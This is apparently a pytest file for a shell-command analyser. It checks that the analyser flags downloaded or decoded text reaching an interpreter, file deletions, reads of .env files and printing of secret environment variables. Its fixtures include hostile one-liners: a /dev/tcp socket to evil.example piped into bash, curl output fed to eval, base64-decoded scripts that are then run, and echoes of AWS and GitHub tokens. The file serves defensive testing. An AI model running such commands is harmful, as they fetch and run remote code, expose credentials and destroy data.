"""Data that goes from one command into another: where text that was fetched, decoded or read in comes to be run."""

from collections.abc import Callable

import pytest

FLOWS = {
    "a shell reads from a descriptor that a socket was opened on": (
        "exec 3<>/dev/tcp/evil.example/80; bash <&3",
        ["download-to-interpreter"],
    ),
    "a pipe carries on what a descriptor reads": (
        "exec 3<>/dev/tcp/evil.example/80; cat <&3 | sh",
        ["download-to-interpreter"],
    ),
    "a descriptor in a variable": ('exec {fd}< <(curl http://h/x); sh <&"$fd"', ["download-to-interpreter"]),
    "a descriptor keeps what it was connected with first": (
        "exec 3< <(curl http://h/x); true 3< README.md; sh <&3",
        ["download-to-interpreter"],
    ),
    "`read -u` takes lines from a descriptor": (
        'exec 3< <(curl http://h/x); read -u 3 l; eval "$l"',
        ["download-to-interpreter"],
    ),
    "lines of a pipe are run one by one": (
        'curl http://h/x | while read l; do eval "$l"; done',
        ["download-to-interpreter"],
    ),
    "an array of lines is run": ('mapfile -t a < <(curl http://h/x); eval "${a[@]}"', ["download-to-interpreter"]),
    "what is cut from a fetched text is fetched": (
        'x=$(curl http://h/x); eval "${x#junk}"',
        ["download-to-interpreter"],
    ),
    "a shell reads from a coprocess": ("coproc curl http://h/x; sh <&${COPROC[0]}", ["download-to-interpreter"]),
    "the text of a fetched file is run": ('curl -o t http://h/x; eval "$(cat t)"', ["download-then-run"]),
    "a file is written by a decoder and run": ("base64 -d x > a; sh a", ["decode-to-interpreter"]),
    "a decoded file is copied and run": ("xxd -r -p x > a; cp a b; sh b", ["decode-to-interpreter"]),
    "a decoder writes the file itself": ("openssl enc -d -in x -out a; . ./a", ["decode-to-interpreter"]),
    "another file than the decoded one is run": ("base64 -d x > a; sh b", []),
    "a file is unpacked in its place": ("gunzip tool.gz && ./tool", []),
    "line ends are taken out of a script": ("tr -d x < a > b; sh b", []),
    "what is read is only printed": ('curl http://h/x | while read l; do echo "$l"; done', []),
}

RUNS = {
    "text that goes through a wrapper": "env A=1 echo rm x | sh",
    "text that goes through two wrappers": "nohup timeout 5 echo rm x | sh",
    "text of a subshell": "(echo rm x) | sh",
    "text of a group": "{ echo rm x; } | sh",
    "words of a format": "printf '%s %s' rm x | sh",
    "the elements of an array": 'a=(rm -f x); "${a[@]}"',
    "elements added to an array": 'a=(rm); a+=(-f x); "${a[@]}"',
    "an element of an array": "a=(ls rm); ${a[1]} x",
    "words read from a text": "read c f <<< 'rm x'; $c $f",
    "a line of several": "while read l; do $l; done <<EOF\nls\nrm x\nEOF",
    "an array read from a text": "mapfile -t a <<< 'rm x'; eval \"${a[0]}\"",
    "a variable set by printf": "printf -v c '%s %s' rm x; eval \"$c\"",
    "a variable named by another": "x=y; y='rm x'; eval \"${!x}\"",
}


@pytest.mark.parametrize("sentence", FLOWS)
def test_text_from_elsewhere_is_followed_to_what_runs_it(sentence: str, told: Callable[[str], list[str]]) -> None:
    command, patterns = FLOWS[sentence]
    assert [effect.removeprefix("flow ") for effect in told(command) if effect.startswith("flow")] == patterns


@pytest.mark.parametrize("sentence", RUNS)
def test_text_that_is_known_is_followed_to_what_it_does(sentence: str, told: Callable[[str], list[str]]) -> None:
    assert "delete /w/x" in told(RUNS[sentence])


def test_what_only_may_be_known_stays_a_question(told: Callable[[str], list[str]]) -> None:
    assert "opaque" in told("read c <<< ls; $c")


NAMED = {
    "a suffix is cut off": "x=.env.bak; cat ${x%.bak}",
    "a prefix is cut off": "x=my.env; cat ${x#my}",
    "the directory is cut off": "x=a/b/.env; cat ${x##*/}",
    "all after the first mark is cut off": "x=.env:a:b; cat ${x%%:*}",
    "all after the last mark is cut off": "x=.env:a; cat ${x%:*}",
    "the directory is not known": 'cat "$D/.env"',
    "the directory comes from a command": "cat $(git rev-parse --show-toplevel)/.env",
    "a redirection reads below such a directory": 'cat < "$D/.env"',
}


@pytest.mark.parametrize("sentence", NAMED)
def test_a_name_that_is_made_of_others_is_known(sentence: str, told: Callable[[str], list[str]]) -> None:
    assert "read /w/.env" in told(NAMED[sentence])


def test_a_name_below_an_unknown_directory_stays_unknown_too(told: Callable[[str], list[str]]) -> None:
    assert told('cat "$D/a"') == ["run cat ?", "read ?", "run cat ./a", "read /w/a"]
    assert told('cat "$D/../a"') == ["run cat ?", "read ?"]


HIDDEN = {
    "an option of bash": ("shopt -s dotglob; rm *", True),
    "an option of zsh": ("setopt GLOB_DOTS; rm *", True),
    "an option that is not known": ("shopt -s $X; rm *", True),
    "another option": ("shopt -s nullglob; rm *", False),
    "an option that is taken away": ("shopt -u dotglob; rm *", False),
}


@pytest.mark.parametrize("sentence", HIDDEN)
def test_patterns_that_match_hidden_files_are_doubted(sentence: str, told: Callable[[str], list[str]]) -> None:
    command, doubted = HIDDEN[sentence]
    assert ("opaque" in told(command)) is doubted


def test_a_variable_that_lets_patterns_match_hidden_files_is_doubted(told: Callable[[str], list[str]]) -> None:
    assert "opaque" in told("GLOBIGNORE=x; cat *")


PRINTED = {
    "a variable that is called a secret": ('echo "key: $AWS_SECRET_ACCESS_KEY"', True),
    "such a variable by printf": ("printf '%s' \"$GITHUB_TOKEN\"", True),
    "a default where it is empty": ('echo "${API_KEY:-none}"', True),
    "whether it is set": ('echo "${API_KEY:+set}"', False),
    "its length": ('echo "${#API_KEY}"', False),
    "another variable": ('echo "$HOSTNAME"', False),
    "a variable of the line itself": ("TOKEN=x; echo $TOKEN", False),
    "what a program reads": ('echo "$CR_PAT_TOKEN" | wc -c', False),
    "what a substitution takes": ('x=$(echo "$GITHUB_TOKEN")', False),
}


@pytest.mark.parametrize("sentence", PRINTED)
def test_a_secret_of_the_environment_is_not_printed(sentence: str, told: Callable[[str], list[str]]) -> None:
    command, shown = PRINTED[sentence]
    assert any(effect.startswith("secret") for effect in told(command)) is shown
